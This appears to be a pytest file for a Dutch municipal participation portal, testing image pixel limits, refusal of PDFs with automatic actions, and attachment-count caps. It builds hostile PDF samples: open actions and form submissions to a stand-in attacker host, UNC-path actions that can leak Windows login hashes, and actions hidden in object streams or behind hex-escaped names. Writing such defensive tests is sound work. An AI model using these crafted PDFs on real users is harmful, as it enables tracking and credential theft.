"""Security finding 7, upload cost and limits: pixel limit checked from the header, automatic
PDF actions, and the number of attachments per application and per kind."""

import functools
import io
import re
import zlib

from django.utils import translation
from django.utils.html import escape

import pytest
from PIL import Image, ImageFile

from participatie.bijlagelimiet import (
    MAX_BIJLAGEN_PER_AANVRAAG,
    MAX_BIJLAGEN_PER_SOORT,
    controleer_aantal,
)
from participatie.constants import BijlageSoort
from participatie.models import Bijlage
from portal.bijlagen import (
    MAX_PIXELS,
    BijlageFout,
    afbeeldingen,
    controleer_bestand,
    pdf_stromen,
    pdf_syntax,
)
from tests.bijlagen.helpers import (
    CATALOGUS,
    PAGINA,
    PAGINAS,
    maak_pdf,
    png_met_afmetingen,
    stroom,
    upload,
    weigert,
)

from .conftest import png_bestand, stap_url, start, vul_in

# --- Images: the pixel limit --------------------------------------------------------------------

NET_TE_GROOT = (6000, 4001)  # 24,006,000 pixels: just over the limit


@functools.cache
def groot_beeld(formaat: str, grootte=NET_TE_GROOT, **opties) -> bytes:
    """A real image file of this size: one grey, so the file itself is small."""
    buffer = io.BytesIO()
    Image.new("L", grootte, 128).save(buffer, formaat, **opties)
    return buffer.getvalue()


def verbied_decoderen(monkeypatch, *, ook_openen: bool) -> None:
    """Fail the test when Pillow decodes pixels (or, with ``ook_openen``, opens the file)."""

    def niet_laden(self, *args, **kwargs):
        raise AssertionError("the pixels were decoded")

    monkeypatch.setattr(ImageFile.ImageFile, "load", niet_laden)
    monkeypatch.setattr(Image.Image, "load", niet_laden)
    if ook_openen:

        def niet_openen(*args, **kwargs):
            raise AssertionError("Pillow opened the file")

        monkeypatch.setattr(Image, "open", niet_openen)


def test_the_pixel_limit_is_24_megapixels_which_a_12_megapixel_phone_photo_fits():
    assert MAX_PIXELS == 24_000_000
    assert 4000 * 3000 <= MAX_PIXELS < NET_TE_GROOT[0] * NET_TE_GROOT[1]


@pytest.mark.parametrize(
    ("formaat", "opties", "chunk"),
    [
        pytest.param("WEBP", {"method": 0, "quality": 1}, b"VP8 ", id="webp-lossy"),
        pytest.param("WEBP", {"lossless": True, "method": 0}, b"VP8L", id="webp-lossless"),
        pytest.param(
            "WEBP", {"method": 0, "exif": b"Exif\x00\x00II*\x00"}, b"VP8X", id="webp-extended"
        ),
        pytest.param("PNG", {}, b"IHDR", id="png"),
    ],
)
def test_a_webp_or_png_just_over_the_limit_is_refused_from_its_header_without_opening_it(
    monkeypatch, formaat, opties, chunk
):
    data = groot_beeld(formaat, **opties)
    assert data[12:16] == chunk
    assert len(data) < 200_000  # a small file: the cost is in the pixels, not the bytes
    # Opening a WebP already makes libwebp allocate the whole canvas: not even that may happen.
    verbied_decoderen(monkeypatch, ook_openen=True)

    fout = weigert(upload(data, f"straat.{formaat.lower()}"), "afbeelding_te_groot")

    with translation.override("en"):
        assert fout.messages == ["The image is too large: at most 24 megapixels."]


def test_a_jpeg_just_over_the_limit_is_refused_from_its_frame_header_without_decoding(
    monkeypatch,
):
    data = groot_beeld("JPEG")
    verbied_decoderen(monkeypatch, ook_openen=False)  # Pillow's open() reads headers only

    weigert(upload(data, "straat.jpg"), "afbeelding_te_groot")


def test_a_png_header_that_lies_about_its_size_is_refused_before_pillow_reads_it(monkeypatch):
    verbied_decoderen(monkeypatch, ook_openen=True)
    weigert(upload(png_met_afmetingen(6000, 4001), "bom.png"), "afbeelding_te_groot")
    weigert(upload(png_met_afmetingen(0, 10), "leeg.png"), "afbeelding_onleesbaar")


@pytest.mark.parametrize("formaat", ["PNG", "JPEG"])
def test_an_image_of_20_megapixels_is_accepted_and_scaled_down(formaat):
    resultaat = controleer_bestand(
        upload(groot_beeld(formaat, (5000, 4000)), f"straat.{formaat.lower()}")
    )

    beeld = Image.open(io.BytesIO(resultaat.inhoud))
    assert beeld.format == formaat
    assert beeld.size == (afbeeldingen.MAX_ZIJDE, 2400)


def test_the_declared_size_is_read_from_each_webp_and_png_header():
    for formaat, opties in (
        ("WEBP", {"method": 0, "quality": 1}),
        ("WEBP", {"lossless": True, "method": 0}),
        ("WEBP", {"method": 0, "exif": b"Exif\x00\x00II*\x00"}),
        ("PNG", {}),
    ):
        data = groot_beeld(formaat, (321, 123), **opties)
        mime = "image/webp" if formaat == "WEBP" else "image/png"
        assert afbeeldingen._verklaarde_afmetingen(data, mime) == (321, 123), opties


# --- PDF: actions that run by themselves --------------------------------------------------------


def catalogus(extra: bytes) -> bytes:
    return b"<< /Type /Catalog /Pages 2 0 R " + extra + b" >>"


def pagina(extra: bytes) -> bytes:
    return b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] " + extra + b" >>"


def objectstroom(*objecten: bytes, eerste: int) -> bytes:
    """A Flate-compressed object stream holding these objects, numbered from ``eerste``."""
    kop, lichaam = [], b""
    for nummer, inhoud in enumerate(objecten, start=eerste):
        kop.append(b"%d %d" % (nummer, len(lichaam)))
        lichaam += inhoud + b"\n"
    koptekst = b" ".join(kop) + b"\n"
    return stroom(
        koptekst + lichaam, b" /Type /ObjStm /N %d /First %d" % (len(objecten), len(koptekst))
    )


URI_ACTIE = b"<< /Type /Action /S /URI /URI (https://aanvaller.example/geopend?id=1) >>"
LINK = (
    b"<< /Type /Annot /Subtype /Link /Rect [10 10 90 30] "
    b"/A << /S /URI /URI (https://www.delft.nl/straatfeest) >> >>"
)
NAAR_PAGINA = b"<< /S /GoTo /D [3 0 R /Fit] >>"
UNC_PAD = rb"(\\\\aanvaller\\deel\\a.pdf)"  # on Windows, opening it may send the login hash


AUTOMATISCHE_ACTIES = [
    pytest.param(
        maak_pdf(catalogus(b"/OpenAction 4 0 R"), PAGINAS, PAGINA, URI_ACTIE),
        id="open-action-to-uri",
    ),
    pytest.param(
        maak_pdf(
            catalogus(
                b"/OpenAction << /S /SubmitForm /F << /FS /URL /F (https://aanvaller.example/) >>"
                b" /Flags 4 >>"
            ),
            PAGINAS,
            PAGINA,
        ),
        id="open-action-submit-form",
    ),
    pytest.param(
        maak_pdf(
            catalogus(b"/OpenAction 4 0 R"),
            PAGINAS,
            PAGINA,
            b"<< /S /ImportData /F " + UNC_PAD + b" >>",
        ),
        id="open-action-import-data",
    ),
    pytest.param(
        maak_pdf(
            catalogus(b"/OpenAction << /S /GoToR /F " + UNC_PAD + b" /D [0 /Fit] >>"),
            PAGINAS,
            PAGINA,
        ),
        id="open-action-remote-go-to-unc-path",
    ),
    pytest.param(
        maak_pdf(catalogus(b"/Open#41ction 4 0 R"), PAGINAS, PAGINA, URI_ACTIE),
        id="open-action-name-with-hex-escape",
    ),
    pytest.param(
        maak_pdf(
            catalogus(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 4 0 R >>"),
            PAGINAS,
            PAGINA,
            b"<< /S /GoTo /D [3 0 R /Fit] /Next [6 0 R 5 0 R] >>",
            URI_ACTIE,
            NAAR_PAGINA,
        ),
        id="open-action-next-chain-to-uri",
    ),
    pytest.param(
        maak_pdf(CATALOGUS, PAGINAS, pagina(b"/AA << /O 4 0 R >>"), URI_ACTIE),
        id="page-open-additional-action-uri",
    ),
    pytest.param(
        maak_pdf(
            catalogus(b"/AA << /WC << /S /SubmitForm /F (https://aanvaller.example/) >> >>"),
            PAGINAS,
            PAGINA,
        ),
        id="document-will-close-submit-form",
    ),
    pytest.param(
        maak_pdf(
            CATALOGUS,
            PAGINAS,
            pagina(b"/Annots [4 0 R]"),
            b"<< /Type /Annot /Subtype /Widget /FT /Btn /Rect [0 0 9 9] /AA 5 0 R >>",
            b"<< /E 6 0 R >>",
            URI_ACTIE,
        ),
        id="widget-mouse-enter-uri-via-indirect-aa",
    ),
]

IN_OBJECTSTROMEN = [
    pytest.param(
        maak_pdf(
            catalogus(b"/OpenAction 5 0 R"),
            PAGINAS,
            PAGINA,
            objectstroom(URI_ACTIE, eerste=5),
        ),
        id="open-action-to-uri-in-an-object-stream",
    ),
    pytest.param(
        maak_pdf(
            CATALOGUS,  # an old catalog; the one in the object stream has the action
            PAGINAS,
            PAGINA,
            objectstroom(catalogus(b"/OpenAction 6 0 R"), URI_ACTIE, eerste=5),
        ),
        id="catalog-and-action-in-an-object-stream",
    ),
    pytest.param(
        maak_pdf(
            CATALOGUS,
            PAGINAS,
            PAGINA,
            objectstroom(pagina(b"/AA << /O 6 0 R >>"), URI_ACTIE, eerste=5),
        ),
        id="page-additional-action-in-an-object-stream",
    ),
    pytest.param(
        maak_pdf(
            catalogus(b"/OpenAction 5 0 R"),
            PAGINAS,
            PAGINA,
            b"[3 0 R /Fit]",  # object 4, renumbered to 5 below: a harmless decoy
            objectstroom(URI_ACTIE, eerste=5),
        ).replace(b"4 0 obj\n[3 0 R", b"5 0 obj\n[3 0 R"),
        id="decoy-in-the-file-real-action-in-an-object-stream",
    ),
]


@pytest.mark.parametrize("pdf", AUTOMATISCHE_ACTIES + IN_OBJECTSTROMEN)
def test_a_pdf_whose_automatic_action_opens_sends_or_fetches_is_refused(pdf):
    fout = weigert(upload(pdf, "begroting.pdf", "application/pdf"), "pdf_automatische_actie")
    with translation.override("en"):
        assert fout.messages == [
            "This PDF cannot be accepted because it contains active content or is damaged."
        ]


@pytest.mark.parametrize("pdf", IN_OBJECTSTROMEN)
def test_the_actions_in_object_streams_are_invisible_in_the_raw_bytes(pdf):
    assert b"/URI" not in pdf
    assert not pdf_syntax._ACTIEF.search(pdf)


GEWONE_PDFS = [
    pytest.param(maak_pdf(CATALOGUS, PAGINAS, pagina(b"/Annots [4 0 R]"), LINK), id="a-hyperlink"),
    pytest.param(
        maak_pdf(
            catalogus(b"/OpenAction [3 0 R /XYZ null null 0]"),
            PAGINAS,
            pagina(b"/Annots [4 0 R]"),
            LINK,
        ),
        id="hyperlink-and-open-at-a-page-like-libreoffice",
    ),
    pytest.param(
        maak_pdf(
            catalogus(b"/OpenAction 5 0 R"),
            PAGINAS,
            pagina(b"/Annots [4 0 R]"),
            b"<< /Type /Annot /Subtype /Link /Rect [10 10 90 30] /A 6 0 R >>",
            b"[3 0 R /FitH 792]",
            b"<< /S /URI /URI (https://www.delft.nl/) >>",
        ),
        id="open-at-a-page-by-reference-and-a-link-with-a-separate-action",
    ),
    pytest.param(
        maak_pdf(
            catalogus(b"/OpenAction 5 0 R"),
            PAGINAS,
            pagina(b"/Annots [6 0 R]"),
            objectstroom(NAAR_PAGINA, LINK, eerste=5),
        ),
        id="open-action-and-link-in-the-same-object-stream",
    ),
    pytest.param(
        maak_pdf(
            catalogus(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 4 0 R >>"),
            PAGINAS,
            pagina(b"/AA << /O << /S /GoTo /D [3 0 R /Fit] >> >> /Annots [5 0 R]"),
            b"<< /S /Named /N /FitPage >>",
            LINK,
        ),
        id="harmless-automatic-actions-and-a-link",
    ),
    pytest.param(
        maak_pdf(
            catalogus(b"/OpenAction << /S /GoTo /D (Hoofdstuk 1 >> begin \\) [) >>"),
            PAGINAS,
            pagina(b"/Annots [4 0 R]"),
            LINK,
        ),
        id="delimiters-in-a-string-of-the-open-action",
    ),
]


@pytest.mark.parametrize("pdf", GEWONE_PDFS)
def test_ordinary_pdfs_with_links_and_harmless_automatic_actions_are_accepted(pdf):
    assert controleer_bestand(upload(pdf, "a.pdf")).inhoud == pdf


def test_an_automatic_action_that_points_nowhere_is_not_checkable():
    pdf = maak_pdf(catalogus(b"/OpenAction 9 0 R"), PAGINAS, PAGINA)
    weigert(upload(pdf, "a.pdf"), "pdf_niet_controleerbaar")


def test_the_work_spent_on_automatic_actions_is_bounded():
    veel = maak_pdf(CATALOGUS, PAGINAS, PAGINA, b"<< " + b"/AA << >> " * 20_000 + b">>")
    weigert(upload(veel, "a.pdf"), "pdf_niet_controleerbaar")

    diep = maak_pdf(catalogus(b"/OpenAction << /S /GoTo /D " + b"[" * 100_000 + b" >>"))
    weigert(upload(diep, "a.pdf"), "pdf_niet_controleerbaar")


def test_object_streams_too_large_to_keep_only_matter_with_an_automatic_action(monkeypatch):
    monkeypatch.setattr(pdf_stromen, "_MAX_BEWAARD", 100)
    groot = objectstroom(NAAR_PAGINA, LINK, b"<< /Producer (" + b"x" * 200 + b") >>", eerste=5)
    zonder = maak_pdf(CATALOGUS, PAGINAS, PAGINA, groot)
    met = maak_pdf(catalogus(b"/OpenAction 5 0 R"), PAGINAS, PAGINA, groot)

    assert controleer_bestand(upload(zonder, "a.pdf"))
    weigert(upload(met, "a.pdf"), "pdf_niet_controleerbaar")


def test_a_flate_object_stream_without_first_is_not_trusted_for_automatic_actions():
    inhoud = b"5 0 " + URI_ACTIE
    pdf = maak_pdf(
        catalogus(b"/OpenAction 5 0 R"),
        PAGINAS,
        PAGINA,
        b"<< /Type /ObjStm /N 1 /Filter /FlateDecode >>\nstream\n"
        + zlib.compress(inhoud)
        + b"\nendstream",
    )
    weigert(upload(pdf, "a.pdf"), "pdf_niet_controleerbaar")


# --- The number of attachments, through step 4 --------------------------------------------------


@pytest.fixture
def bij_stap_4(ingelogd, straatfeest, settings, tmp_path):
    """A draft at step 4 that offers three kinds: photo, budget, other."""
    settings.PRIVATE_MEDIA_ROOT = tmp_path
    straatfeest.begroting_verplicht = True
    straatfeest.save()
    aanvraag = start(ingelogd, straatfeest)
    vul_in(ingelogd, aanvraag)
    return aanvraag


def voeg_toe(client, aanvraag, soort, naam="foto.png"):
    return client.post(
        stap_url(aanvraag, 4),
        {
            "telefoon": "",
            "privacy_akkoord": "on",
            "bijlage_soort": soort,
            "bijlage": png_bestand(naam),
            "bijlage_toevoegen": "1",
        },
    )


def fout_bij_het_veld(response) -> str:
    html = response.content.decode()
    veld = re.search(r'id="id_bijlage_error">(.*?)</div>', html, re.DOTALL)
    assert veld, "no error message at the attachment field"
    return veld.group(1)


def controleer_aantal_fout(aanvraag, soort) -> BijlageFout:
    with pytest.raises(BijlageFout) as info:
        controleer_aantal(aanvraag, soort)
    return info.value


def verwachte_melding(aanvraag, soort) -> tuple[str, str]:
    """The message and code ``controleer_aantal`` gives now, in the language of the site (so
    this holds before and after the Dutch translation is added)."""
    fout = controleer_aantal_fout(aanvraag, soort)
    with translation.override("nl"):
        return fout.messages[0], fout.code


def engelse_melding(aanvraag, soort) -> str:
    with translation.override("en"):
        return controleer_aantal_fout(aanvraag, soort).messages[0]


def niets_kwijt(aanvraag, voor: list[Bijlage]) -> None:
    na = list(aanvraag.bijlagen.order_by("pk"))
    assert [(b.pk, b.naam, b.soort, b.bestand.name) for b in na] == [
        (b.pk, b.naam, b.soort, b.bestand.name) for b in voor
    ]
    for bijlage in na:
        assert bijlage.bestand.storage.exists(bijlage.bestand.name)


@pytest.mark.django_db
def test_the_eleventh_attachment_is_refused_at_the_field_before_it_is_decoded(
    ingelogd, bij_stap_4, monkeypatch
):
    aanvraag = bij_stap_4
    soorten = [BijlageSoort.FOTO] * 4 + [BijlageSoort.BEGROTING] * 3 + [BijlageSoort.OVERIG] * 3
    for nummer, soort in enumerate(soorten):
        response = voeg_toe(ingelogd, aanvraag, soort, f"bijlage {nummer}.png")
        assert response.status_code == 302, nummer
    assert aanvraag.bijlagen.count() == MAX_BIJLAGEN_PER_AANVRAAG == 10
    voor = list(aanvraag.bijlagen.order_by("pk"))

    def niet_decoderen(upload, **kwargs):
        raise AssertionError("an upload over the limit was still checked and decoded")

    monkeypatch.setattr("participatie.views.controleer_bestand", niet_decoderen)
    response = voeg_toe(ingelogd, aanvraag, BijlageSoort.FOTO, "nummer elf.png")  # 5th photo

    assert response.status_code == 200
    assert response.context["form"].has_error("bijlage", "te_veel_bijlagen")
    melding, code = verwachte_melding(aanvraag, BijlageSoort.FOTO)
    assert code == "te_veel_bijlagen"
    assert escape(melding) in fout_bij_het_veld(response)
    assert engelse_melding(aanvraag, BijlageSoort.FOTO) == (
        "This application already has 10 attachments, the maximum. Remove an attachment "
        "before you add another one."
    )
    niets_kwijt(aanvraag, voor)
    assert "nummer elf" not in ingelogd.get(stap_url(aanvraag, 4)).content.decode()


@pytest.mark.django_db
def test_the_sixth_attachment_of_one_kind_is_refused_and_other_kinds_still_fit(
    ingelogd, bij_stap_4
):
    aanvraag = bij_stap_4
    for nummer in range(MAX_BIJLAGEN_PER_SOORT):
        assert voeg_toe(
            ingelogd, aanvraag, BijlageSoort.FOTO, f"foto {nummer}.png"
        ).status_code == (302)
    voor = list(aanvraag.bijlagen.order_by("pk"))

    response = voeg_toe(ingelogd, aanvraag, BijlageSoort.FOTO, "zesde foto.png")

    assert response.status_code == 200
    assert response.context["form"].has_error("bijlage", "te_veel_van_soort")
    melding, code = verwachte_melding(aanvraag, BijlageSoort.FOTO)
    assert code == "te_veel_van_soort"
    assert escape(melding) in fout_bij_het_veld(response)
    assert engelse_melding(aanvraag, BijlageSoort.FOTO) == (
        'This application already has 5 attachments of the kind "Photo or drawing of the '
        'location", the maximum. Remove one of them before you add another one.'
    )
    niets_kwijt(aanvraag, voor)

    # The limit is per kind: a budget still fits.
    assert voeg_toe(ingelogd, aanvraag, BijlageSoort.BEGROTING, "begroting.png").status_code == 302
    assert aanvraag.bijlagen.count() == MAX_BIJLAGEN_PER_SOORT + 1
